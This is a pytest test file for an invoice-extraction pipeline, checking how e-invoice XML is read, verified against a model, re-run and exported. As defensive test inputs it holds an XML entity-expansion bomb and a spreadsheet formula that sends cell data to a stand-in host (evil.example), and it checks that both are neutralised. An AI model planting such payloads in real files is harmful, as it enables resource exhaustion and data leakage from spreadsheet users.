"""E-invoices in a run: rows read from the XML (embedded in a PDF or standalone) without the
model, --einvoice prefer / model / verify, broken and hostile XML as error rows, re-runs, a run
whose engine cannot start, and `docextract eval` over the corpus e-invoices."""

from __future__ import annotations

import hashlib
import io
import json
from collections.abc import Sequence
from decimal import Decimal
from pathlib import Path

import pytest
from typer.testing import CliRunner

from pipeline.cli.app import app
from pipeline.config import load_config
from pipeline.engines.base import EngineOutcome, EngineRequest, EngineResult
from pipeline.engines.null import NullEngine
from pipeline.errors import ConfigError, EngineUnavailable, ModelNeeded
from pipeline.extract.einvoice_rows import compare_fields
from pipeline.inputs.discover import detect_kind
from pipeline.output.progress import PlainReporter
from pipeline.records import FileKind
from pipeline.run import run_extraction
from schemas import Invoice
from tests.corpus import CORPUS
from tests.einvoice_factory import InvoiceFacts, cii_xml, expected_invoice, pdf_with_xml, ubl_xml
from tests.run_helpers import make_unique_pdf, read_table

runner = CliRunner()
EMBEDDED = InvoiceFacts(number="RE-2025-0501")
STANDALONE = InvoiceFacts(number="RE-2025-0502", type_code="381")
EXPECTED_ENGINE = {"embedded.pdf": "einvoice CII en16931", "standalone.xml": "einvoice UBL peppol"}


class CountingEngine(NullEngine):
    """The null engine, keeping the document id of every request it is asked."""

    def __init__(self, answers: dict[str, str] | None = None) -> None:
        super().__init__()
        self.asked: list[str] = []
        self.answers = answers or {}

    async def generate(self, requests: Sequence[EngineRequest]) -> list[EngineOutcome]:
        self.asked += [r.request_id.split("#")[0] for r in requests]
        outcomes = await super().generate(requests)
        return [self._answer(r, o) for r, o in zip(requests, outcomes, strict=True)]

    def _answer(self, request: EngineRequest, outcome: EngineOutcome) -> EngineOutcome:
        text = self.answers.get(request.request_id.split("#")[0])
        return outcome if text is None else EngineResult(request.request_id, text, "stop", 10, 20)


def _inbox(root: Path) -> dict[str, Path]:
    root.mkdir(parents=True)
    files = {
        "embedded.pdf": root / "embedded.pdf",
        "standalone.xml": root / "standalone.xml",
        "plain.pdf": make_unique_pdf(root / "plain.pdf", 1, "PLAIN"),
    }
    files["embedded.pdf"].write_bytes(
        pdf_with_xml(cii_xml(EMBEDDED, "en16931"), "factur-x.xml", EMBEDDED)
    )
    files["standalone.xml"].write_bytes(ubl_xml(STANDALONE))
    return files


def _run(inbox: Path, out: Path, engine: NullEngine | None = None, **settings: object):
    flags = {"inputs": [str(inbox)], "out": out, "schema_ref": "invoice", "log_format": "plain"}
    flags["render"] = {"dpi": 40, "workers": 1}
    flags["engine"] = {"name": "null"}
    config = load_config({**flags, **settings}, env={})
    return run_extraction(config, engine=engine, reporter=PlainReporter(io.StringIO()))


def _rows(out: Path, table: str = "documents") -> dict[str, dict]:
    return {Path(r["source_path"]).name: r for r in read_table(out, "invoice", table)}


def _doc_id(rows: dict[str, dict], name: str) -> str:
    return rows[name]["doc_id"]


def _expected(facts: InvoiceFacts, profile: str) -> Invoice:
    return Invoice.model_validate(expected_invoice(facts, profile))


def test_prefer_reads_rows_from_the_xml_and_never_asks_the_engine(tmp_path: Path) -> None:
    _inbox(tmp_path / "inbox")
    engine = CountingEngine()
    report = _run(tmp_path / "inbox", tmp_path / "out", engine)
    rows = _rows(tmp_path / "out")
    assert sorted(rows) == ["embedded.pdf", "plain.pdf", "standalone.xml"]
    assert engine.asked == [_doc_id(rows, "plain.pdf")]  # the e-invoices were never asked
    assert (report.extracted, report.from_xml, report.failed) == (3, 2, 0)
    for name, facts, profile in (
        ("embedded.pdf", EMBEDDED, "en16931"),
        ("standalone.xml", STANDALONE, "peppol"),
    ):
        row = rows[name]
        want = _expected(facts, profile)
        assert row["data"]["invoice_number"] == want.invoice_number
        assert row["data"]["grand_total"] == want.grand_total == Decimal("555.02")
        assert row["data"]["kind"] == str(want.kind)
        assert row["data"]["seller"]["vat_id"] == want.seller.vat_id
        got_lines = [(x["description"], x["line_total"]) for x in row["data"]["line_items"]]
        assert got_lines == [(x.description, x.line_total) for x in want.line_items]
        assert (row["engine"], row["model"]) == (EXPECTED_ENGINE[name], "einvoice")
        assert (row["prompt_tokens"], row["visual_tokens"], row["raw_answer"]) == (0, 0, None)
        assert (row["status"], row["warnings"]) == ("ok", [])
    assert rows["embedded.pdf"]["page_count"] == 1
    assert rows["standalone.xml"]["page_count"] == 0
    assert (rows["plain.pdf"]["engine"], rows["plain.pdf"]["model"]) == ("null", "none")


def test_discovery_accepts_invoice_xml_only(tmp_path: Path) -> None:
    assert detect_kind(cii_xml(EMBEDDED, "xrechnung")[:4096]) is FileKind.XML
    assert detect_kind(ubl_xml(STANDALONE)[:4096]) is FileKind.XML
    other = b'<?xml version="1.0"?><Invoice xmlns="urn:example:not-ubl"><ID>1</ID></Invoice>'
    assert detect_kind(other) is None
    assert detect_kind(b"<?xml version='1.0'?><html><body/></html>") is None
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "other.xml").write_bytes(other)
    (inbox / "good.xml").write_bytes(ubl_xml(STANDALONE))
    # A licence text of 6 KB in comments before the root element, as published samples have.
    prolog, body = cii_xml(EMBEDDED, "en16931").split(b"?>", 1)
    licence = b"<!-- " + b"Nutzungsrechte und Lizenz. " * 240 + b"-->\n"
    (inbox / "commented.xml").write_bytes(prolog + b"?>\n" + licence + body)
    report = _run(inbox, tmp_path / "out", CountingEngine())
    assert report.from_xml == 2
    errors = _rows(tmp_path / "out", "errors")
    assert errors["other.xml"]["code"] == "not_a_document"


def test_broken_and_hostile_xml_are_error_rows_and_the_run_goes_on(tmp_path: Path) -> None:
    files = _inbox(tmp_path / "inbox")
    inbox = tmp_path / "inbox"
    broken = cii_xml(EMBEDDED, "en16931").replace(b"</rsm:CrossIndustryInvoice>", b"")
    (inbox / "broken.pdf").write_bytes(pdf_with_xml(broken, "factur-x.xml"))
    hostile = ubl_xml(STANDALONE).split(b"?>", 1)[1]
    bomb = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in (1, 2))
    hostile = hostile.replace(b"<cbc:Note>", b"<cbc:Note>&a2;", 1)
    (inbox / "hostile.xml").write_bytes(
        f"<?xml version='1.0'?><!DOCTYPE Invoice [{bomb}]>".encode() + hostile
    )
    engine = CountingEngine()
    report = _run(inbox, tmp_path / "out", engine)
    errors = _rows(tmp_path / "out", "errors")
    assert sorted(errors) == ["broken.pdf", "hostile.xml"]
    for name, problem in (("broken.pdf", "malformed_xml"), ("hostile.xml", "unsafe_xml")):
        row = errors[name]
        assert row["code"] == "einvoice_invalid"
        assert row["message"].startswith(f"{inbox / name}: e-invoice XML {problem}: ")
        assert (row["model"], row["engine"]) == ("einvoice", "einvoice")
    assert "factur-x.xml" in errors["broken.pdf"]["message"]
    assert sorted(_rows(tmp_path / "out")) == sorted(files)  # the others are extracted
    assert (report.extracted, report.failed) == (3, 2)
    assert engine.asked == [_doc_id(_rows(tmp_path / "out"), "plain.pdf")]


def test_model_mode_asks_the_model_and_standalone_xml_has_nothing_to_render(
    tmp_path: Path,
) -> None:
    _inbox(tmp_path / "inbox")
    engine = CountingEngine()
    report = _run(tmp_path / "inbox", tmp_path / "out", engine, einvoice="model")
    rows = _rows(tmp_path / "out")
    assert sorted(rows) == ["embedded.pdf", "plain.pdf"]
    assert sorted(engine.asked) == sorted(r["doc_id"] for r in rows.values())
    assert rows["embedded.pdf"]["engine"] == "null"
    assert rows["embedded.pdf"]["data"]["invoice_number"] != "RE20250501"  # the null answer
    error = _rows(tmp_path / "out", "errors")["standalone.xml"]
    assert error["code"] == "nothing_to_render"
    assert "needs a model: nothing to render" in error["message"]
    assert (report.from_xml, report.failed) == (0, 1)


def test_other_schemas_ignore_einvoices(tmp_path: Path) -> None:
    _inbox(tmp_path / "inbox")
    engine = CountingEngine()
    config = load_config(
        {"inputs": [str(tmp_path / "inbox")], "out": tmp_path / "out", "schema_ref": "receipt",
         "render": {"dpi": 40, "workers": 1}, "engine": {"name": "null"}},
        env={},
    )  # fmt: skip
    report = run_extraction(config, engine=engine, reporter=PlainReporter(io.StringIO()))
    assert (report.extracted, report.from_xml, report.failed) == (2, 0, 1)
    assert len(engine.asked) == 2


def test_verify_warns_once_for_the_one_field_the_model_read_otherwise(tmp_path: Path) -> None:
    files = _inbox(tmp_path / "inbox")
    doc_id = hashlib.sha256(files["embedded.pdf"].read_bytes()).hexdigest()
    answer = _expected(EMBEDDED, "en16931").model_dump(mode="json")
    answer["seller"]["name"] = "Kranich Feinmechanik"  # the XML says "... GmbH"
    engine = CountingEngine({doc_id: json.dumps(answer)})
    report = _run(tmp_path / "inbox", tmp_path / "out", engine, einvoice="verify")
    rows = _rows(tmp_path / "out")
    row = rows["embedded.pdf"]
    assert doc_id in engine.asked  # verify asks the model too
    assert row["warnings"] == [
        {
            "code": "einvoice.mismatch",
            "message": "seller.name: XML 'Kranich Feinmechanik GmbH', model 'Kranich Feinmechanik'",
        }
    ]
    assert row["status"] == "warning"
    assert row["data"]["seller"]["name"] == "Kranich Feinmechanik GmbH"  # the XML's value
    assert row["model"] == "einvoice"
    assert row["engine"] == "einvoice CII en16931, verified by null none"
    assert json.loads(row["raw_answer"])["seller"]["name"] == "Kranich Feinmechanik"
    assert row["prompt_tokens"] == 10
    assert rows["standalone.xml"]["warnings"] == []  # nothing to verify it against
    assert (report.extracted, report.with_warnings, report.failed) == (3, 1, 0)


def test_verify_of_an_answer_that_fails_keeps_the_xml_row_with_a_warning(tmp_path: Path) -> None:
    files = _inbox(tmp_path / "inbox")
    doc_id = hashlib.sha256(files["embedded.pdf"].read_bytes()).hexdigest()
    engine = CountingEngine({doc_id: "no JSON here"})
    report = _run(tmp_path / "inbox", tmp_path / "out", engine, einvoice="verify", retries=0)
    row = _rows(tmp_path / "out")["embedded.pdf"]
    assert [w["code"] for w in row["warnings"]] == ["einvoice.unverified"]
    assert "(invalid_json)" in row["warnings"][0]["message"]
    assert row["data"]["invoice_number"] == "RE-2025-0501"  # as printed, dashes and all
    assert (row["raw_answer"], row["model"]) == ("no JSON here", "einvoice")
    assert report.failed == 0


def test_compare_fields_names_paths_and_both_values() -> None:
    xml = _expected(EMBEDDED, "en16931")
    fewer = xml.model_copy(update={"line_items": xml.line_items[:2], "due_date": None})
    messages = [w.message for w in compare_fields(xml, fewer)]
    assert messages[0] == "due_date: XML 2025-04-13, model (none)"
    assert messages[1].startswith("line_items[2]: XML {'description': 'Schrauben M4'")
    assert messages[1].endswith(", model (none)")
    assert compare_fields(xml, xml.model_copy()) == []


def test_reruns_skip_xml_rows_and_a_model_run_adds_its_own(tmp_path: Path) -> None:
    inbox, out = tmp_path / "inbox", tmp_path / "out"
    _inbox(inbox)
    _run(inbox, out, CountingEngine())
    again = CountingEngine()
    report = _run(inbox, out, again)
    assert (report.skipped, report.extracted, again.asked) == (3, 0, [])
    verify = CountingEngine()
    report = _run(inbox, out, verify, einvoice="verify")  # the XML row stands for verify too
    assert (report.skipped, report.extracted, verify.asked) == (3, 0, [])
    model = CountingEngine()
    report = _run(inbox, out, model, einvoice="model")
    assert (report.extracted, len(model.asked)) == (1, 1)  # the embedded one, by the model
    keys = [(r["item_id"], r["model"]) for r in read_table(out, "invoice", "documents")]
    assert len(keys) == len(set(keys)) == 4
    assert sorted(m for _, m in keys) == ["einvoice", "einvoice", "none", "none"]
    forced = CountingEngine()
    report = _run(inbox, out, forced, force=True)
    assert (report.extracted, report.from_xml) == (3, 2)
    keys = [(r["item_id"], r["model"]) for r in read_table(out, "invoice", "documents")]
    assert len(keys) == len(set(keys)) == 4


def test_dry_run_lists_einvoices_at_no_cost(tmp_path: Path) -> None:
    files = _inbox(tmp_path / "inbox")
    report = _run(tmp_path / "inbox", tmp_path / "out", CountingEngine(), dry_run=True)
    planned = {Path(e["path"]).name: e for e in report.planned}
    assert planned["embedded.pdf"]["kind"] == "pdf, e-invoice XML"
    assert planned["standalone.xml"]["visual_tokens"] == 0
    assert planned["plain.pdf"]["visual_tokens"] > 0
    assert not (tmp_path / "out" / "invoice").exists() and files


def test_verify_does_not_go_with_per_page(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="verify"):
        load_config({"einvoice": "verify", "per_page": True}, env={})


def _no_engine(config: object, **_: object) -> None:
    raise EngineUnavailable("engine transformers: no weights here")


def test_without_an_engine_the_einvoices_are_read_and_the_rest_wait(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import pipeline.engines

    monkeypatch.setattr(pipeline.engines, "build_engine", _no_engine)
    files = _inbox(tmp_path / "inbox")
    out = tmp_path / "out"
    args = ["run", str(tmp_path / "inbox"), "--out", str(out), "--dpi", "40", "--workers", "1"]
    result = runner.invoke(app, [*args, "--log-format", "plain"])
    assert result.exit_code == 3, result.output
    assert f"needs a model: {files['plain.pdf']}" in result.output
    assert "no weights here" in result.output
    assert "2 documents were read from e-invoice XML; 1 still need a model" in result.output
    assert sorted(_rows(out)) == ["embedded.pdf", "standalone.xml"]
    assert _rows(out, "errors") == {}
    # The e-invoices alone need no engine at all.
    files["plain.pdf"].unlink()
    result = runner.invoke(app, [*args, "--log-format", "plain", "--force"])
    assert result.exit_code == 0, result.output


def test_model_needed_carries_the_report(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import pipeline.engines

    monkeypatch.setattr(pipeline.engines, "build_engine", _no_engine)
    _inbox(tmp_path / "inbox")
    with pytest.raises(ModelNeeded) as caught:
        _run(tmp_path / "inbox", tmp_path / "out")
    report = caught.value.report
    assert report.needs_model == [str(tmp_path / "inbox" / "plain.pdf")]  # type: ignore[attr-defined]
    (tmp_path / "inbox" / "embedded.pdf").unlink()
    (tmp_path / "inbox" / "standalone.xml").unlink()
    with pytest.raises(EngineUnavailable) as plain:  # nothing to read: it fails as before
        _run(tmp_path / "inbox", tmp_path / "out2")
    assert not isinstance(plain.value, ModelNeeded)


CORPUS_INVOICES = CORPUS / "invoices"


@pytest.mark.corpus
@pytest.mark.skipif(not CORPUS_INVOICES.is_dir(), reason="shared corpus not present")
def test_corpus_einvoices_read_from_xml_score_f1_one(tmp_path: Path) -> None:
    out = tmp_path / "out"
    run = ["run", str(CORPUS_INVOICES), "--out", str(out), "--schema", "invoice"]
    result = runner.invoke(app, [*run, "--engine", "null", "--einvoice", "prefer"])
    assert result.exit_code == 0, result.output
    rows = read_table(out, "invoice", "documents")
    assert len(rows) == 13 and {r["model"] for r in rows} == {"einvoice"}
    # The samples' made-up VAT ids fail their check digits; no other rule is broken.
    codes = {w["code"] for r in rows for w in r["warnings"]}
    assert codes <= {"invoice.vat_id_invalid", "invoice.iban_invalid"}, codes
    assert read_table(out, "invoice", "errors") == []
    result = runner.invoke(app, ["eval", str(out), "--truth", "embedded", "--json"])
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    assert len(report["documents"]) == 13
    assert report["total"]["f1"] == 1.0
    assert report["total"]["tp"] > 13 * 10


def _hostile(xml: bytes, *values: tuple[bytes, bytes]) -> bytes:
    """`xml` with the first element of each tag given the value given."""
    import re

    for tag, value in values:
        pattern = rb"(<" + tag + rb"[^>]*>)[^<]*<"
        xml, found = re.subn(pattern, rb"\g<1>" + value + b"<", xml, count=1)
        assert found
    return xml


OVERFLOW = ((b"ram:ChargeAmount", b"9E999999"), (b"ram:BasisQuantity", b"1E-999999"))
HUGE_TOTAL = ((b"ram:GrandTotalAmount", b"123456789012345678901234.5"),)


@pytest.mark.parametrize("values", [OVERFLOW, HUGE_TOTAL],
                         ids=["decimal-overflow", "beyond-decimal128"])  # fmt: skip
def test_amounts_out_of_range_cost_their_document_a_row_and_nothing_else(tmp_path, values):
    """A crafted amount (an overflow in the unit price, a total wider than the column) makes
    one einvoice_invalid row; the other documents of the inbox are extracted, in a dry run
    too, and the rerun has nothing left to do."""
    files = _inbox(tmp_path / "in")
    xml = cii_xml(InvoiceFacts(number="RE-2025-0666"), "extended")
    (tmp_path / "in" / "hostile.xml").write_bytes(_hostile(xml, *values))
    planned = _run(tmp_path / "in", tmp_path / "dry", dry_run=True)
    assert {Path(e["path"]).name for e in planned.planned} >= {"plain.pdf"}
    report = _run(tmp_path / "in", tmp_path / "out")
    errors = _rows(tmp_path / "out", "errors")
    assert list(errors) == ["hostile.xml"] and errors["hostile.xml"]["code"] == "einvoice_invalid"
    assert "out of range" in errors["hostile.xml"]["message"]
    assert set(_rows(tmp_path / "out")) == set(files)
    assert report.failed == 1 and report.extracted == len(files)
    assert _run(tmp_path / "in", tmp_path / "out").attempted == 0


def test_an_amount_with_more_decimals_than_its_column_is_rounded_with_a_warning(tmp_path):
    (tmp_path / "in").mkdir()
    xml = cii_xml(InvoiceFacts(number="RE-2025-0777"), "en16931")
    (tmp_path / "in" / "precise.xml").write_bytes(
        _hostile(xml, (b"ram:ChargeAmount", b"39.800049"))
    )
    report = _run(tmp_path / "in", tmp_path / "out")
    row = _rows(tmp_path / "out")["precise.xml"]
    rounded = [w for w in row["warnings"] if w["code"] == "einvoice.rounded"]
    assert len(rounded) == 1 and report.with_warnings == 1
    assert rounded[0]["message"].endswith(": 39.800049 in the XML is stored as 39.8000")
    path = rounded[0]["message"].split(":")[0]  # e.g. line_items[0].unit_price
    assert path.startswith("line_items[0].")
    assert row["data"]["line_items"][0][path.split(".")[1]] == Decimal("39.8000")


def test_reading_the_attachments_of_a_damaged_pdf_prints_nothing(tmp_path):
    """MuPDF prints "MuPDF error: ..." on the process's own stdout when it reads a damaged page
    tree, unless told not to: in a fresh process (as a script calling the API is) stdout and
    stderr stay empty, and what MuPDF said goes to the log."""
    import re
    import subprocess
    import sys

    import pymupdf

    document = pymupdf.open()
    document.new_page().insert_text((50, 50), "damaged")
    damaged = re.sub(rb"/Kids\s*\[[^\]]*\]", b"/Kids [99 0 R]", document.tobytes())
    (tmp_path / "damaged.pdf").write_bytes(damaged)
    code = ("import docextract, logging\n"
            "logging.basicConfig(filename='log.txt', level=logging.INFO)\n"
            "print(docextract.read_embedded_einvoice('damaged.pdf'), end='')\n")  # fmt: skip
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=120, cwd=tmp_path)  # fmt: skip
    assert (done.returncode, done.stdout, done.stderr) == (0, "None", "")
    assert "damaged.pdf: MuPDF: format error: non-page object in page tree" in (
        tmp_path / "log.txt"
    ).read_text()


def test_a_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path):
    """A seller named like a formula (read exactly from the XML) is exported as text with a
    leading apostrophe; the credit note's negative amounts stay numbers."""
    import csv
    import dataclasses

    (tmp_path / "in").mkdir()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Kranich")'
    seller = dataclasses.replace(InvoiceFacts.seller, name=formula)
    facts = dataclasses.replace(STANDALONE, seller=seller, type_code="381", net="-41.00",
                                tax="-7.79", grand="-48.79", payable="-48.79")  # fmt: skip
    (tmp_path / "in" / "formula.xml").write_bytes(ubl_xml(facts))
    _run(tmp_path / "in", tmp_path / "out")
    assert _rows(tmp_path / "out")["formula.xml"]["data"]["seller"]["name"] == formula
    done = runner.invoke(app, ["export", str(tmp_path / "out"), "--format", "csv",
                               "--output", str(tmp_path / "rows.csv")])  # fmt: skip
    assert done.exit_code == 0, done.output
    with (tmp_path / "rows.csv").open(newline="") as handle:
        (record,) = list(csv.DictReader(handle))
    assert record["data.seller.name"] == "'" + formula
    assert record["data.grand_total"] == "-48.7900"


@pytest.mark.parametrize("name", ["swapped.pdf", "swapped.xml"])
def test_a_file_swapped_for_a_fifo_after_discovery_is_a_row_not_a_hang(tmp_path, monkeypatch,
                                                                       name):  # fmt: skip
    """Between discovery and the e-invoice read, a file becomes a FIFO that nobody writes:
    the run neither waits on it nor holds the lock for ever; the file gets a changed row, which
    the next run's row of what stands there then replaces."""
    import os
    import threading

    import pipeline.extract.plan as plan

    files = _inbox(tmp_path / "in")
    swapped = tmp_path / "in" / name
    if name.endswith(".pdf"):
        swapped.write_bytes(pdf_with_xml(cii_xml(EMBEDDED, "en16931"), "factur-x.xml", EMBEDDED))
    else:
        swapped.write_bytes(ubl_xml(InvoiceFacts(number="RE-2025-0888")))
    real = plan.discover_sources

    def discover_then_swap(*args, **kwargs):  # type: ignore[no-untyped-def]
        found = real(*args, **kwargs)
        swapped.unlink()
        os.mkfifo(swapped)
        return found

    monkeypatch.setattr(plan, "discover_sources", discover_then_swap)
    outcome: dict[str, object] = {}
    worker = threading.Thread(target=lambda: outcome.update(report=_run(
        tmp_path / "in", tmp_path / "out")), daemon=True)  # fmt: skip
    worker.start()
    worker.join(timeout=60)
    if worker.is_alive():  # let the stuck open() go before failing
        os.close(os.open(swapped, os.O_WRONLY | os.O_NONBLOCK))
        worker.join(timeout=10)
    assert "report" in outcome, "the run waited on the FIFO"
    errors = _rows(tmp_path / "out", "errors")
    assert list(errors) == [name] and errors[name]["code"] == "changed"
    assert "replaced after it was found" in errors[name]["message"]
    assert set(_rows(tmp_path / "out")) == set(files)


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be"])
def test_a_utf16_invoice_xml_is_read_as_any_other(tmp_path, codec):
    """A CII invoice saved as UTF-16 (with its byte order mark and its declaration saying so)
    is found as an e-invoice and read exactly, not refused as not_a_document."""
    (tmp_path / "in").mkdir()
    facts = InvoiceFacts(number="RE-2025-0999")
    text = cii_xml(facts, "en16931").decode("utf-8")
    body = text.split("?>", 1)[1] if text.startswith("<?xml") else text
    wide = ('<?xml version="1.0" encoding="UTF-16"?>' + body).encode(codec)
    if codec == "utf-16-be":
        wide = b"\xfe\xff" + wide
    (tmp_path / "in" / "wide.xml").write_bytes(wide)
    assert detect_kind(wide[:4096]) is FileKind.XML
    report = _run(tmp_path / "in", tmp_path / "out")
    row = _rows(tmp_path / "out")["wide.xml"]
    assert (row["model"], row["data"]["invoice_number"]) == ("einvoice", "RE-2025-0999")
    assert report.failed == 0


def test_a_json_log_holds_nothing_but_json_lines_log_messages_included(tmp_path):
    """With --log-format json, docextract's own log messages (with -v, which engine it chose
    and why) are JSON events on stderr like every other line."""
    import subprocess
    import sys

    inbox = tmp_path / "in"
    inbox.mkdir()
    make_unique_pdf(inbox / "plain.pdf", 1, "JSON-LOG")
    done = subprocess.run(
        [sys.executable, "-m", "pipeline", "-v", "run", str(inbox), "--out",
         str(tmp_path / "out"), "--engine", "null", "--log-format", "json"],
        capture_output=True, text=True, timeout=120, cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    events = [json.loads(line) for line in done.stderr.splitlines()]  # each line is JSON
    logged = [e for e in events if e["event"] == "log"]
    assert {"level": "info", "logger": "pipeline.engines",
            "message": "engine: null (--engine null was asked for)"} in [
        {k: e[k] for k in ("level", "logger", "message")} for e in logged
    ]  # fmt: skip


def test_xml_over_the_size_limit_is_a_row(tmp_path):
    """With einvoice_max_bytes below the invoices' XML, the attached and the standalone one
    each become an einvoice_invalid row (xml_too_large). That the attachment is never inflated
    is checked where the reading happens (test_einvoice_isolation)."""
    files = _inbox(tmp_path / "in")
    report = _run(tmp_path / "in", tmp_path / "out", einvoice_max_bytes=2000)
    errors = _rows(tmp_path / "out", "errors")
    assert sorted(errors) == ["embedded.pdf", "standalone.xml"]
    assert all(e["code"] == "einvoice_invalid" and "xml_too_large" in e["message"]
               and "more than einvoice_max_bytes (2,000)" in e["message"]
               for e in errors.values())  # fmt: skip
    assert "factur-x.xml holds" in errors["embedded.pdf"]["message"]
    assert set(_rows(tmp_path / "out")) == {"plain.pdf"} and report.failed == 2
    assert set(files) == {"embedded.pdf", "standalone.xml", "plain.pdf"}


def test_with_grounding_the_xml_values_are_located_on_the_pdf_that_carries_them(
    tmp_path: Path,
) -> None:
    """The PDF prints the number, the issue date and the grand total: those fields get boxes
    on its page (confidence 1, as every XML value); the rest, printed nowhere, keep source xml.
    A standalone XML file has no page to locate anything on."""
    _inbox(tmp_path / "inbox")
    _run(tmp_path / "inbox", tmp_path / "out", render={"dpi": 40, "workers": 1,
                                                         "text_layer": True})  # fmt: skip
    fields = read_table(tmp_path / "out", "invoice", "fields")
    embedded = {f["field"]: f for f in fields if f["source_path"].endswith("embedded.pdf")}
    for name in ("invoice_number", "issue_date", "grand_total"):
        field = embedded[name]
        assert (field["source"], field["on_page"], field["confidence"]) == ("text_layer", 1, 1.0)
        assert 72 <= field["x0"] < field["x1"] < 595 and 60 < field["y0"] < field["y1"] < 130
    assert embedded["seller.iban"]["source"] == "xml" and embedded["seller.iban"]["x0"] is None
    standalone = [f for f in fields if f["source_path"].endswith("standalone.xml")]
    assert {f["source"] for f in standalone if f["value"] is not None} == {"xml"}
